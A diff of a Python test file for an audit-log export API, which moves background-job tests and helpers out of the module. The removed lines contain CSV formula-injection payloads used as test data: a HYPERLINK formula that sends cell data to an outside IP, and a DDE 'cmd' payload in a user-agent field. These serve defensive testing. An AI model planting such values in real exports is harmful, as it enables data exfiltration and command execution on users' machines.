@@ -1,107 +1,41 @@
-"""Exports over HTTP and in the background: each format against the timeline, and what happens when something breaks."""
+"""Exports over HTTP: each format against the timeline, what may be asked, what the ledger says, archived months.
+
+Here: files that are streamed while they are made. Not here: those made in the background, in `test_export_jobs.py`.
+"""
 
 import csv
 import hashlib
 import io
 import json
 import os
-import signal
-import subprocess
-import sys
-import threading
 import time
-from datetime import UTC, datetime, timedelta
+from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 from uuid import UUID, uuid4
 
 import duckdb
-import httpx
 import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
+from export_world import BOB, EXPORT, EXPORTS, NASTY, export, fill, made_events, timeline
 from moved_clock import MovedClock, month
 from test_server_running import Api, serving
 
 from audit_pipelines.derive.archiving import retain
-from audit_pipelines.exports import jobs, making, reading
+from audit_pipelines.exports import making, reading
 from audit_pipelines.exports.selection import Selection
 from audit_pipelines.installation import Installation
 from audit_pipelines.ledger.event import Event
 from audit_pipelines.ledger.evidence import check_evidence
-from audit_pipelines.privacy import erasing
 from audit_pipelines.settings import Settings
 
 pytest_plugins = ["test_server_running"]
-
-EXPORT = "/api/audit/export"
-EXPORTS = "/api/audit/exports"
-BOB = "bob@example.org"
-NASTY = [
-    '=HYPERLINK("http://203.0.113.9/?"&A1)', "+1+1", "-2", "@SUM(A1)", "\t=1", "0042",
-    "00000000000000000000000000000017", "監査, 証跡", 'a "quoted" word', "semi;colon", "x" * 900, "1e999",
-    "2026-03-01", "שלום", "'plain",
-]  # fmt: skip
 
 
 @pytest.fixture
 def settings(settings: Settings) -> Settings:
     return settings.model_copy(update={"audit_export_batch_size": 7, "audit_archive_grace_days": 0})
-
-
-def fill(installation: Installation, tenant_id: UUID, count: int = 40, *, actor: str = BOB) -> None:
-    installation.ledger.append(
-        tenant_id,
-        [
-            Event(
-                event_type="record.read" if number % 3 else "record.export",
-                entity_type="record",
-                entity_id=NASTY[number % len(NASTY)].replace("\t", " ").strip() or "x",
-                actor=actor if number % 2 else "ann",
-                outcome="success",
-                ip_address=f"198.51.100.{number % 5}",
-                user_agent="=cmd|' /C calc'!A0" if number % 4 == 0 else "curl/8",
-                occurred_at=datetime(2026, 3, 1, tzinfo=UTC) + timedelta(hours=number),
-                details={
-                    "note": NASTY[number % len(NASTY)] + "\nnext line",
-                    "entity_id": 'x","entity_id":"y',
-                    "n": number,
-                }
-                if number % 5
-                else None,
-            )
-            for number in range(count)
-        ],
-    )
-
-
-def timeline(client: httpx.Client, **parameters: Any) -> list[dict[str, Any]]:
-    events: list[dict[str, Any]] = []
-    cursor: dict[str, str] = {}
-    while True:
-        page = client.get("/api/audit/events", params={"limit": 100, **parameters, **cursor}).json()
-        events += page["events"]
-        if page["next_cursor"] is None:
-            return events
-        cursor = {"cursor": page["next_cursor"]}
-
-
-def export(client: httpx.Client, form: str, status: int = 200, **body: Any) -> httpx.Response:
-    response = client.post(f"{EXPORT}/{form}", json=body)
-    assert response.status_code == status, response.text
-    return response
-
-
-def wait(client: httpx.Client, export_id: str, *states: str) -> dict[str, Any]:
-    deadline = time.monotonic() + 30
-    while (shown := client.get(f"{EXPORTS}/{export_id}").json())["state"] not in states:
-        assert time.monotonic() < deadline, shown
-        time.sleep(0.02)
-    return dict(shown)
-
-
-def made_events(client: httpx.Client) -> list[dict[str, Any]]:
-    return timeline(client, event_type="audit.export.made", order="asc")
 
 
 def armed(text: str | None) -> str | None:
@@ -378,221 +312,7 @@ def test_a_reader_that_sleeps_holds_no_transaction_and_others_are_told_when_all_
         each.__exit__(None, None, None)
 
 
-# In the background
-
-
-def test_a_job_has_progress_a_file_a_digest_and_an_end(api: Api, tenant_id: UUID) -> None:
-    fill(api.installation, tenant_id)
-    client = api.client(tenant_id)
-    queued = export(client, "csv", 202, filters={"actor": BOB}, background=True)
-    assert queued.headers["location"] == f"{EXPORTS}/{queued.json()['export_id']}"
-    shown = wait(client, queued.json()["export_id"], "ready", "failed")
-    assert (shown["state"], shown["rows_done"], shown["rows_total"]) == ("ready", 20, 20)
-    file = client.get(shown["download_url"])
-    assert hashlib.sha256(file.content).hexdigest() == shown["sha256"]
-    assert file.content == export(client, "csv", filters={"actor": BOB}).content
-    assert "attachment" in file.headers["content-disposition"]
-    assert file.headers["repr-digest"].startswith("sha-256=:")
-    made = next(each for each in made_events(client) if each["seq"] == shown["seq"])
-    assert made["details"]["sha256"] == shown["sha256"]
-    path = jobs.path_of(api.installation, tenant_id, UUID(shown["export_id"]), "csv")
-    assert path.stat().st_mode & 0o77 == 0
-    with api.installation.database.connect_admin() as conn:
-        conn.execute("update audit_exports set expires_at = now() where state = 'ready'")
-    assert client.get(shown["download_url"]).status_code == 410
-    assert client.get(queued.headers["location"]).json()["state"] == "expired"
-    assert jobs.remove_ended(api.installation) == 1
-    assert not path.exists()
-    assert client.get(shown["download_url"]).status_code == 410
-
-
-def test_every_format_can_be_made_in_the_background(api: Api, tenant_id: UUID) -> None:
-    fill(api.installation, tenant_id, 12)
-    api.installation.seal(tenant_id)
-    client = api.client(tenant_id)
-    for form in ("ndjson", "parquet", "pdf", "evidence"):
-        shown = wait(client, export(client, form, 202, background=True).json()["export_id"], "ready", "failed")
-        assert shown["state"] == "ready", shown
-        assert hashlib.sha256(client.get(shown["download_url"]).content).hexdigest() == shown["sha256"]
-
-
-def test_who_did_not_ask_sees_nothing_of_it(api: Api, tenant_id: UUID) -> None:
-    fill(api.installation, tenant_id, 12)
-    client = api.client(tenant_id, "audit:export", "audit:privacy", subject="ann")
-    shown = wait(client, export(client, "csv", 202, background=True).json()["export_id"], "ready")
-    url = f"{EXPORTS}/{shown['export_id']}"
-    others = api.client(tenant_id, "audit:export", subject=BOB), api.client(uuid4(), subject="ann")
-    for other in others:
-        assert (
-            other.get(url).status_code == other.get(f"{url}/file").status_code == other.delete(url).status_code == 404
-        )
-    # Asked with names, and the names are not theirs any more.
-    assert api.client(tenant_id, "audit:export", subject="ann").get(f"{url}/file").status_code == 403
-    assert api.client(tenant_id, "audit:export", "audit:admin", subject="root").get(f"{url}/file").status_code == 200
-    assert client.delete(url).status_code == 204
-    assert client.get(f"{url}/file").status_code == 410
-    assert client.get(f"{EXPORTS}/nonsense").status_code == 404
-
-
-def test_a_job_that_cannot_be_made_says_why(api: Api, tenant_id: UUID) -> None:
-    client = api.client(tenant_id)
-    shown = wait(client, export(client, "evidence", 202, background=True).json()["export_id"], "failed", "ready")
-    assert shown["state"] == "failed"
-    assert "at least one event" in shown["error"]
-
-
-def test_a_tenant_has_so_many_jobs_at_most(api: Api, tenant_id: UUID, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(jobs, "MOST_OPEN", 2)
-    # None of them is made meanwhile.
-    monkeypatch.setattr(jobs, "run_next", lambda *_: False)
-    client = api.client(tenant_id)
-    for _ in range(2):
-        export(client, "csv", 202, background=True)
-    refused = export(client, "csv", 503, background=True)
-    assert int(refused.headers["retry-after"]) > 0
-    export(api.client(uuid4()), "csv", 202, background=True)
-
-
-def test_large_exports_go_to_the_background_by_themselves(
-    api: Api, tenant_id: UUID, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    fill(api.installation, tenant_id, 12)
-    monkeypatch.setattr("audit_pipelines.server.exports.STREAMED_ROWS", 10)
-    client = api.client(tenant_id)
-    shown = wait(client, export(client, "csv", 202).json()["export_id"], "ready")
-    assert shown["rows_done"] >= 12
-    assert export(client, "csv", 200, filters={"limit": 10}).status_code == 200
-    assert export(client, "csv", 200, background=False).status_code == 200
-
-
-def test_a_process_that_stops_gives_its_job_back(installation: Installation, tenant_id: UUID) -> None:
-    fill(installation, tenant_id, 12)
-    jobs.queue(
-        installation,
-        making.order(installation, tenant_id, "csv", Selection(), {}, by="ann", with_names=True),
-    )
-    stop = threading.Event()
-    stop.set()
-    assert jobs.run_next(installation, stop)
-    [(state, attempts)] = states(installation)
-    assert (state, attempts) == ("waiting", 0)
-    assert jobs.run_next(installation, threading.Event())
-    assert states(installation) == [("ready", 1)]
-    assert not jobs.run_next(installation, threading.Event())
-
-
-def states(installation: Installation) -> list[tuple[str, int]]:
-    with installation.database.connect_admin() as conn:
-        return conn.execute("select state, attempts from audit_exports order by created_at").fetchall()
-
-
-def test_a_job_is_taken_up_after_its_process_was_killed(installation: Installation, tenant_id: UUID) -> None:
-    fill(installation, tenant_id, 40)
-    wanted = making.order(installation, tenant_id, "csv", Selection(), {}, by="ann", with_names=True)
-    jobs.queue(installation, wanted)
-    # A process of its own claims the job and stops in the middle of the file.
-    with subprocess.Popen(
-        [
-            sys.executable,
-            "-c",
-            HOLDING,
-            installation.database.conninfo("audit_pipeline"),
-            str(installation.settings.home),
-        ],
-        stdout=subprocess.PIPE,
-    ) as held:
-        assert held.stdout
-        assert held.stdout.readline() == b"claimed\n"
-        held.send_signal(signal.SIGKILL)
-    assert states(installation) == [("running", 1)]
-    assert not jobs.run_next(installation, threading.Event())
-    with installation.database.connect_admin() as conn:
-        conn.execute("update audit_exports set claimed_until = now()")
-    assert jobs.run_next(installation, threading.Event())
-    assert states(installation) == [("ready", 2)]
-    content = jobs.path_of(installation, tenant_id, wanted.export_id, "csv").read_bytes()
-    shown = jobs.show(installation, tenant_id, wanted.export_id)
-    assert shown
-    assert shown.sha256 == hashlib.sha256(content).digest()
-    assert shown.rows_done == 40
-
-
-HOLDING = """
-import sys, time, psycopg
-from audit_pipelines.db.queries import query
-with psycopg.connect(sys.argv[1]) as conn:
-    conn.execute(query("exports/claim_job"), {"claim": "60 seconds", "most": 5})
-print("claimed", flush=True)
-time.sleep(600)
-"""
-
-
-# Persons and old months
-
-
-def test_an_erasure_takes_the_files_that_hold_the_person(api: Api, tenant_id: UUID) -> None:
-    fill(api.installation, tenant_id)
-    client = api.client(tenant_id, subject="auditor")
-    by_format = {
-        form: wait(client, export(client, form, 202, background=True, filters=filters).json()["export_id"], "ready")
-        for form, filters in (("csv", {}), ("parquet", {}), ("ndjson", {"actor": "ann"}))
-    }
-    begun = erasing.begin(api.installation, tenant_id, BOB)
-    assert erasing.finish(api.installation, tenant_id, begun.actor_ref, run_id="a test")
-    for form in ("csv", "parquet"):
-        shown = client.get(f"{EXPORTS}/{by_format[form]['export_id']}").json()
-        assert (shown["state"], shown["download_url"]) == ("removed", None)
-        assert client.get(by_format[form]["download_url"]).status_code == 410
-    kept = client.get(by_format["ndjson"]["download_url"])
-    assert kept.status_code == 200
-    assert BOB not in kept.text
-    assert BOB not in export(client, "csv").text
-
-
-def test_a_file_that_was_being_made_during_an_erasure_is_made_anew(
-    installation: Installation, tenant_id: UUID, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    fill(installation, tenant_id)
-    wanted = making.order(installation, tenant_id, "csv", Selection(), {}, by="ann", with_names=True)
-    jobs.queue(installation, wanted)
-    write = making.write
-
-    def and_then_bob_goes(*arguments: Any) -> making.Made:
-        made = write(*arguments)
-        monkeypatch.setattr(making, "write", write)
-        installation.erase(tenant_id, BOB)
-        return made
-
-    monkeypatch.setattr(making, "write", and_then_bob_goes)
-    assert jobs.run_next(installation, threading.Event())
-    assert states(installation) == [("waiting", 0)]
-    path = jobs.path_of(installation, tenant_id, wanted.export_id, "csv")
-    assert not path.exists()
-    assert jobs.run_next(installation, threading.Event())
-    assert BOB not in path.read_text()
-
-
-def test_a_cancelled_job_leaves_no_file(
-    installation: Installation, tenant_id: UUID, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    fill(installation, tenant_id)
-    wanted = making.order(installation, tenant_id, "csv", Selection(), {}, by="ann", with_names=True)
-    jobs.queue(installation, wanted)
-    write = making.write
-
-    def and_then_nobody_wants_it(*arguments: Any) -> making.Made:
-        made = write(*arguments)
-        shown = jobs.show(installation, tenant_id, wanted.export_id)
-        assert shown
-        jobs.cancel(installation, tenant_id, shown)
-        return made
-
-    monkeypatch.setattr(making, "write", and_then_nobody_wants_it)
-    head = reading.head_of(installation, tenant_id)
-    assert jobs.run_next(installation, threading.Event())
-    assert states(installation) == [("cancelled", 1)]
-    assert not jobs.path_of(installation, tenant_id, wanted.export_id, "csv").exists()
-    assert reading.head_of(installation, tenant_id) == head
+# Old months
 
 
 @pytest.fixture
